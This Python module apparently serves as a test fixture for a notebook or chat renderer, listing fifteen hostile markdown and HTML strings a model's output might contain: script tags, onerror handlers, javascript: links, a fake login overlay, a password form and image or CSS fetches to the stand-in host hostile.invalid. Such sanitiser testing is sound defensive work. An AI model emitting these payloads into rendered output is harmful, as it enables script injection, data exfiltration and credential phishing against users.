"""What could a model write to run, fetch, cover or press something? Fifteen answers that try.

Shown as markdown or HTML they would set `window.pwned`, ask `hostile.invalid` for something, put themselves
over the page, restyle it, or offer a control.
"""

from __future__ import annotations

HOSTILE = {
    "script": "Hi <script>window.pwned=1</script> and </pre></div><script>window.pwned=1</script>",
    "image error": """<img src="x:" onerror="window.pwned=1"> ![a](x" onerror="window.pwned=1)""",
    "svg": """<svg onload="window.pwned=1"><a href="javascript:window.pwned=1"><text>x</text></a></svg>""",
    "iframe": """<iframe srcdoc="<script>parent.pwned=1</script>"
style='position:fixed;inset:0'></iframe>""",
    "page style": """
<style>body{visibility:hidden!important;background:url(http://hostile.invalid/css)}</style>
<link rel="stylesheet" href="http://hostile.invalid/link.css">""",
    "overlay": """<div id="main" class="jp-Dialog"
style="position:fixed;inset:0;z-index:99999;background:red">
Your session has ended: log in</div>""",
    "markdown image": """![secret](http://hostile.invalid/i.png?q=1) ![ref][r]

[r]: http://hostile.invalid/r.png""",
    "media": """<video autoplay src="http://hostile.invalid/v"></video>
<object data="http://hostile.invalid/o"></object><img src="http://hostile.invalid/i.gif" width=1>""",
    "form": """
<form action="http://hostile.invalid/f"><input name="password"><button>Sign in</button></form>""",
    "command": """<button data-commandlinker-command="notebook:restart-kernel">Fix</button>
<a href="#" data-commandlinker-command="console:create" data-commandlinker-args="{}">x</a>""",
    "links": """[a](javascript:window.pwned=1) [b](JaVaScRiPt&#58;window.pwned=1) [e][x] [f](vbscript:1)
[c](java&#9;script:window.pwned=1) [d](data:text/html,<script>window.pwned=1</script>)
<javascript:window.pwned=1> [g](//hostile.invalid/g)

[x]: <javascript:window.pwned=1>""",
    "formulas": r"""
$\href{javascript:window.pwned=1}{x}$ $\require{http://hostile.invalid/t}$ $\cssId{main}{q}$
\(\style{background:url(http://hostile.invalid/m)}{y}\) \[\class{jp-Dialog}{z}\] $\rule{999em}{999em}$
$$\unicode[http://hostile.invalid/f]{x41}$$ $\def\frac#1#2{\href{javascript:1}{#1}}$ $\frac{1}{2}$""",
    "mermaid": """```mermaid
graph TD;A["<img src=x: onerror=window.pwned=1>"];click A "javascript:window.pwned=1"
```""",
    "fences and titles": r"""```python" onmouseover="window.pwned=1"><img src=x: onerror=window.pwned=1>
x = "</pre><script>window.pwned=1</script>"
```
[t](http://example.invalid "\" onmouseover=\"window.pwned=1")

~~~"><script>window.pwned=1</script>
y
~~~""",
    "table and escapes": """| <img src=x: onerror=window.pwned=1> | b |
|---|---|
| &lt;script&gt;window.pwned=1&lt;/script&gt; | <script>window.pwned=1</script> |

\x1b]8;;http://hostile.invalid\x07link\x1b[2J \x9b31m \x00 \u202e""",
}
